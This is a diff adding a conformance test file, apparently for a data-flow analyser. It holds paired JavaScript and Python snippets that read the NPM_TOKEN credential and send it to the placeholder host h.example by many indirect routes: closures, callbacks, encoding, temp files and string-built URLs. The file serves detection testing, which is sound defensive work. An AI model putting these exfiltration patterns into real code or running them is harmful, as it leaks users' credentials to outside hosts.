@@ -1,2 +1,149 @@
 import type { ConformanceCase } from "./harness.ts";
-export const PASSING_CASES: ConformanceCase[] = [];
+
+const STOLEN = {
+  from: "read.credential" as const,
+  to: "network.send" as const,
+  source: "NPM_TOKEN",
+  destination: "https://h.example",
+};
+
+/** The ways by which data goes from where it is read to where it is sent. */
+export const PASSING_CASES: ConformanceCase[] = [
+  {
+    name: "data through a function's parameter",
+    programs: {
+      javascript: `function send(d) { fetch("https://h.example", { method: "POST", body: d }); } send(process.env.NPM_TOKEN);`,
+      python: `import os, requests\ndef send(d):\n    requests.post("https://h.example", data=d)\nsend(os.environ["NPM_TOKEN"])`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data through what a function answers",
+    programs: {
+      javascript: `const get = () => process.env.NPM_TOKEN; fetch("https://h.example", { body: get() });`,
+      python: `import os, requests\ndef get():\n    return os.getenv("NPM_TOKEN")\nrequests.post("https://h.example", get())`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data that a closure keeps",
+    programs: {
+      javascript: `function make(t) { return () => fetch("https://h.example", { body: t }); } make(process.env.NPM_TOKEN)();`,
+      python: `import os, requests\ndef make(t):\n    def send():\n        requests.post("https://h.example", data=t)\n    return send\nmake(os.environ["NPM_TOKEN"])()`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data handed to a callback",
+    programs: {
+      javascript: `function each(f) { f(process.env.NPM_TOKEN); } each((t) => fetch("https://h.example", { body: t }));`,
+      python: `import os, requests\ndef each(f):\n    f(os.environ["NPM_TOKEN"])\neach(lambda t: requests.post("https://h.example", data=t))`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data that is awaited",
+    programs: {
+      javascript: `async function get() { return process.env.NPM_TOKEN; } async function main() { const t = await get(); await fetch("https://h.example", { body: t }); } main();`,
+      python: `import os, asyncio, httpx\nasync def get():\n    return os.environ["NPM_TOKEN"]\nasync def main():\n    t = await get()\n    async with httpx.AsyncClient() as c:\n        await c.post("https://h.example", data=t)\nasyncio.run(main())`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data that an object keeps",
+    programs: {
+      javascript: `class Box { constructor(t) { this.t = t; } send() { fetch("https://h.example", { body: this.t }); } } new Box(process.env.NPM_TOKEN).send();`,
+      python: `import os, requests\nclass Box:\n    def __init__(self, t):\n        self.t = t\n    def send(self):\n        requests.post("https://h.example", data=self.t)\nBox(os.environ["NPM_TOKEN"]).send()`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "a method that a base class has",
+    programs: {
+      javascript: `class A { send(t) { fetch("https://h.example", { body: t }); } } class B extends A {} new B().send(process.env.NPM_TOKEN);`,
+      python: `import os, requests\nclass A:\n    def send(self, t):\n        requests.post("https://h.example", data=t)\nclass B(A):\n    pass\nB().send(os.environ["NPM_TOKEN"])`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data as a default argument",
+    programs: {
+      javascript: `function send(t = process.env.NPM_TOKEN) { fetch("https://h.example", { body: t }); } send();`,
+      python: `import os, requests\ndef send(t=os.environ.get("NPM_TOKEN")):\n    requests.post("https://h.example", data=t)\nsend()`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data by a part of a record",
+    programs: {
+      javascript: `const { NPM_TOKEN: t } = process.env; const { a: { b } } = { a: { b: t } }; fetch("https://h.example", { body: b });`,
+      python: `import os, requests\nd = {"a": {"b": os.environ["NPM_TOKEN"]}}\nb = d["a"]["b"]\nrequests.post("https://h.example", data=b)`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data inside a text",
+    programs: {
+      javascript: "fetch(`https://h.example/?t=${process.env.NPM_TOKEN}`);",
+      python: `import os, requests\nrequests.get(f"https://h.example/?t={os.environ['NPM_TOKEN']}")`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data in an address that is added together",
+    programs: {
+      javascript: `const host = "https://h" + ".example"; fetch(host + "/" + process.env.NPM_TOKEN);`,
+      python: `import os, requests\nhost = "https://h" + ".example"\nrequests.get(host + "/" + os.environ["NPM_TOKEN"])`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data through functions that nobody knows",
+    programs: {
+      javascript: `import { wrap } from "some-library"; fetch("https://h.example", { body: wrap(process.env.NPM_TOKEN).toString() });`,
+      python: `import os, requests, some_library\nrequests.post("https://h.example", data=some_library.wrap(os.environ["NPM_TOKEN"]).strip())`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data that is encoded on its way",
+    programs: {
+      javascript: `fetch("https://h.example", { body: Buffer.from(JSON.stringify({ t: process.env.NPM_TOKEN })).toString("base64") });`,
+      python: `import os, requests, base64, json\nrequests.post("https://h.example", data=base64.b64encode(json.dumps({"t": os.environ["NPM_TOKEN"]}).encode()))`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data put into a list one by one",
+    programs: {
+      javascript: `const l = []; l.push(process.env.NPM_TOKEN); fetch("https://h.example", { body: l.join(",") });`,
+      python: `import os, requests\nl = []\nl.append(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=",".join(l))`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "data by way of a file",
+    programs: {
+      javascript: `const fs = require("fs"); fs.writeFileSync("/tmp/x", process.env.NPM_TOKEN); fetch("https://h.example", { body: fs.readFileSync("/tmp/x") });`,
+      python: `import os, requests\nwith open("/tmp/x", "w") as f:\n    f.write(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=open("/tmp/x").read())`,
+    },
+    flows: [STOLEN],
+  },
+  {
+    name: "what was a secret and no longer is",
+    programs: {
+      javascript: `let t = process.env.NPM_TOKEN; t = "ok"; fetch("https://h.example", { body: t });`,
+      python: `import os, requests\nt = os.environ["NPM_TOKEN"]\nt = "ok"\nrequests.post("https://h.example", data=t)`,
+    },
+    noFlows: [{ from: "read.credential", to: "network.send" }],
+  },
+  {
+    name: "a secret that is read beside a request it has nothing to do with",
+    programs: {
+      javascript: `console.log(process.env.NPM_TOKEN.length); fetch("https://h.example", { body: "hello" });`,
+      python: `import os, requests\nprint(len(os.environ["NPM_TOKEN"]))\nrequests.post("https://h.example", data="hello")`,
+    },
+    capabilities: [{ capability: "read.credential", target: "NPM_TOKEN" }],
+    noFlows: [{ from: "read.credential", to: "network.send" }],
+  },
+];
